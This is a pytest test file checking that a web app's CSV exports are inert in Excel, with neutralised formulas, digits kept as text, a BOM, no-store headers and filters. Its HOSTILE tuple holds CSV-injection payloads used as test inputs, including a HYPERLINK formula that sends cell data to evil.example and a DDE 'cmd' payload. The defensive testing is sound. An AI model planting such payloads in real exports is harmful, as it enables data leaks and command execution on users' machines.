"""CSV exports are inert in Excel: formulas neutralised, UTF-8 with BOM, no-store, filtered."""

from __future__ import annotations

import csv
import io
import re
from datetime import timedelta

import pytest

from bidhub.domain.imports import read_csv
from bidhub.services.accountability import explain_incident, log_incident
from bidhub.services.filings import transfer_account
from bidhub.web.csv_export import csv_bytes, neutralise

HOSTILE = ("=HYPERLINK(\"http://evil.example/\"&A1,\"open\")", "+1+cmd|' /C calc'!A0",
           "-2+3", "@SUM(1,1)", "\t=1+1", "\r=1+1")


def read(response) -> list[list[str]]:
    body = response.get_data()
    assert body.startswith("\ufeff".encode())
    return list(csv.reader(io.StringIO(body.decode("utf-8-sig"), newline="")))


def register(response) -> list[list[str]]:
    """The register export's header and direct transfers (not the accounts' first owners, nor
    the rows after the blank one)."""
    rows = read(response)
    rows = rows[:rows.index([])] if [] in rows else rows
    return rows[:1] + [row for row in rows[1:] if row[2] == "Direct transfer"]


def assert_inert(rows: list[list[str]]) -> None:
    for row in rows:
        for cell in row:
            # ="000123" is digits kept as typed (neutralise), nothing else starts so.
            assert re.fullmatch(r'="[0-9]+"', cell) or not cell.startswith(
                ("=", "+", "-", "@", "\t", "\r")), cell


@pytest.mark.parametrize("text", HOSTILE)
def test_text_that_could_start_a_formula_gets_a_leading_quote(text):
    assert neutralise(text) == "'" + text


@pytest.mark.parametrize("value", ["plain", "广州云帆科技有限公司", "", "1=1", " =1", "'quoted"])
def test_other_text_is_written_as_it_is(value):
    assert neutralise(value) == value


def test_numbers_stay_numbers_and_none_is_empty():
    assert neutralise(-5) == -5 and neutralise(0.25) == 0.25
    assert neutralise(None) == ""
    assert neutralise(True) == "True"


@pytest.mark.parametrize(("text", "written"), [
    ("000123", '="000123"'), ("01", '="01"'), ("123456789012", '="123456789012"'),
    ("913101157178810000", '="913101157178810000"'),
    ("0", "0"), ("123", "123"), ("12345678901", "12345678901"), ("0.5", "0.5"),
    ("KA-000123", "KA-000123"), ("０１２３", "０１２３")])
def test_digits_excel_would_not_show_as_written_are_kept_as_text(text, written):
    assert neutralise(text) == written


def test_digits_kept_as_text_are_read_back_as_written_by_an_import():
    data = csv_bytes(("客户编号", "名称"), [("000123", "北京星辰"), ("913101157178810000", "上海")])
    assert read_csv(data) == [
        ["客户编号", "名称"], ["000123", "北京星辰"], ["913101157178810000", "上海"]]


def test_trailing_rows_come_last_and_are_neutralised_too():
    data = csv_bytes(("a", "b"), [("1", "=x")], trailing_rows=[("head", "-7")])
    rows = list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))
    assert rows == [["a", "b"], ["1", "'=x"], ["head", "'-7"]]


def test_the_register_csv_neutralises_every_text_cell(app, session, make_manager, make_rep,
                                                      make_account, clock, login_as):
    manager = make_manager(name="@manager")
    for index, text in enumerate(HOSTILE):
        account = make_account(owner=make_rep(name=f"-from {index}"), name=f"{text} {index}")
        transfer_account(session, manager, account_id=account.id,
                         to_rep_id=make_rep(name=f"={index}").id, reason=f"{text} reason",
                         review_text="Handover done; the client was told.", now=clock())
    response = login_as(manager).get("/manage/filings.csv")
    assert response.status_code == 200 and response.mimetype == "text/csv"
    assert response.headers["Cache-Control"] == "no-store"
    assert response.headers["Content-Disposition"].startswith('attachment; filename="bidhub-')
    assert_inert(read(response))
    rows = register(response)
    assert rows[0][0] == "No." and len(rows) == 1 + len(HOSTILE)
    by_account = {row[4]: row for row in rows[1:]}
    for index, text in enumerate(HOSTILE):
        row = by_account[f"'{text} {index}"]
        # The service strips a reason's surrounding white space; what is left still starts a
        # formula.
        assert row[9] == "'" + f"{text} reason".strip()
        assert row[6] == f"'-from {index}" and row[7] == f"'={index}"
        assert row[13] == "'@manager"


def test_the_register_csv_honours_the_pages_filters(app, session, make_manager, make_rep,
                                                    make_branch, make_account, clock, login_as):
    manager = make_manager()
    beijing, shanghai = make_branch("BJ", "Beijing"), make_branch("SH", "Shanghai")
    first, second = make_rep(branch=beijing), make_rep(branch=shanghai)
    for receiver in (first, second):
        account = make_account(owner=make_rep(branch=receiver.branch), branch=receiver.branch,
                               name=f"For {receiver.display_name}")
        transfer_account(session, manager, account_id=account.id, to_rep_id=receiver.id,
                         reason="Owner left.", review_text="Handover done; the client was told.", now=clock())
    client = login_as(manager)
    page = client.get(f"/manage/filings?rep={first.id}").get_data(as_text=True)
    assert f"rep={first.id}" in page  # the export link carries the filter
    assert [row[7] for row in register(client.get(f"/manage/filings.csv?rep={first.id}"))[1:]
            ] == [first.display_name]
    assert [row[5] for row in register(client.get(
        f"/manage/filings.csv?branch={shanghai.id}"))[1:]] == ["Shanghai"]
    tomorrow = (clock() + timedelta(days=2)).date().isoformat()
    assert len(register(client.get(f"/manage/filings.csv?date_from={tomorrow}"))) == 1
    assert len(register(client.get("/manage/filings.csv"))) == 3


def test_the_accountability_report_csv_neutralises_explanations(app, session, make_manager,
                                                                make_rep, make_account, clock,
                                                                login_as):
    manager, rep = make_manager(), make_rep(name="+rep")
    for index, text in enumerate(HOSTILE):
        incident = log_incident(session, manager,
                                account_id=make_account(owner=rep, name=f"@acct {index}").id,
                                competitor_site=f"-site{index}.example", ad_type="banner",
                                evidence_url=f"https://site{index}.example/",
                                seen_at=clock() - timedelta(days=1), now=clock())
        explain_incident(session, rep, incident.id, explanation=f"{text} explained at length", now=clock())
    response = login_as(manager).get("/manage/accountability/report.csv?start=2026-03-02")
    assert response.status_code == 200 and response.mimetype == "text/csv"
    assert response.headers["Cache-Control"] == "no-store"
    rows = read(response)
    assert_inert(rows)
    rows = rows[:rows.index([])]  # the incidents; the totals follow a blank row
    assert len(rows) == 1 + len(HOSTILE)
    explanations = sorted(row[16] for row in rows[1:])
    assert explanations == sorted("'" + f"{text} explained at length".strip()
                                  for text in HOSTILE)
    assert {row[5] for row in rows[1:]} == {"'+rep"}


def test_the_accountability_report_csv_holds_only_the_requested_period(
        app, session, make_manager, make_rep, make_account, clock, login_as):
    manager, rep = make_manager(), make_rep()
    for name, days in (("Inside Co.", 1), ("Earlier Co.", 20)):
        log_incident(session, manager, account_id=make_account(owner=rep, name=name).id,
                     competitor_site="51job.com", ad_type="logo",
                     evidence_url="https://www.51job.com/",
                     seen_at=clock() - timedelta(days=days), now=clock())
    client = login_as(manager)
    current = read(client.get("/manage/accountability/report.csv?start=2026-03-02"))
    assert [row[3] for row in current[1:current.index([])]] == ["Inside Co."]
    earlier = read(client.get("/manage/accountability/report.csv?start=2026-02-09"))
    assert [row[3] for row in earlier[1:earlier.index([])]] == ["Earlier Co."]
    page = client.get("/manage/accountability/report?start=2026-02-09").get_data(as_text=True)
    assert "report.csv?start=2026-02-09" in page


def test_the_register_csv_gives_negative_scores_as_numbers(app, session, make_manager,
                                                           make_rep, make_account, clock,
                                                           login_as):
    """Rules may weigh penalties negatively, so a winner's total can be below zero: the score
    is a number in Excel, not text behind a leading quote."""
    from bidhub.models import FilingKind
    from bidhub.services.ownership import OwnerChange, change_owners

    manager, receiver = make_manager(), make_rep()
    account = make_account(owner=make_rep(), name="Penalised Co.")
    change_owners(session, [OwnerChange(account.id, receiver.id, filing={
        "kind": FilingKind.ROUND_AWARD, "reason": "Won", "decided_by_id": manager.id,
        "winner_score": -0.25, "runner_up_score": -0.5})], limit=None, now=clock())
    session.commit()
    rows = read(login_as(manager).get("/manage/filings.csv?lang=en"))
    row = next(row for row in rows if len(row) > 4 and row[4] == "Penalised Co.")
    assert (row[10], row[11]) == ("-0.250000", "-0.500000")
